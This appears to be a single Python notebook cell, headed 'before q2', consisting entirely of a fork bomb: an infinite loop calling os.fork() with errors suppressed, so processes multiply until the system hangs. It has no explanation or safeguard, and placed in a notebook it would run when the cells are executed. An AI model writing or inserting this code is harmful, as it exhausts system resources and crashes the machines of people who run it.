# %% before q2
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
